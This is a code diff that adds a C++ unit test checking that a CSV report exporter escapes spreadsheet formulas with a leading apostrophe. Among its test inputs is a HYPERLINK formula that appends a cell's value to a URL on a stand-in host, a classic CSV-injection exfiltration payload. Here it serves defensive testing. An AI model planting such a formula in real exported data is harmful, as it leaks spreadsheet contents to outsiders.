@@ -252,6 +252,26 @@ TEST(CsvFormat, KeepsTextAsItIs) {
   EXPECT_THAT(exported("csv", sample_report()), HasSubstr("\r\n"));
 }
 
+TEST(CsvFormat, HasAnApostropheBeforeFormulas) {
+  const auto cell = [](const std::string& strategy) {
+    Report report = sample_report();
+    report.cases[0].strategy = strategy;
+    return column(read_back("csv", report), "strategy")[1];
+  };
+  for (const std::string formula :
+       {"=1+1", "=HYPERLINK(\"http://x/?\"&A1)", "+2+3", "-3*4", "@SUM(A1)", "\tBM_x", "\r=1", "-",
+        "=", "+-3", "-inf", "-1e", "--1", "-1 000"}) {
+    EXPECT_EQ(cell(formula), "'" + formula);
+  }
+  for (const std::string harmless :
+       {"-3", "+2", "-0.5", "+1e-9", "-.5", "-1e999", "BM=x", " =1", "'=1", "3-4", ""}) {
+    EXPECT_EQ(cell(harmless), harmless);
+  }
+  Report report = sample_report();
+  report.cases[0].parameters.emplace_back("=x", std::int64_t{-3});
+  EXPECT_EQ(column(read_back("csv", report), "parameters.=x")[1], "-3");
+}
+
 TEST(CsvFormat, LeavesNumbersThatAreNoneEmpty) {
   const Json rows = read_back("csv", report_without_numbers());
   EXPECT_EQ(column(rows, "statistics.median")[1], "");
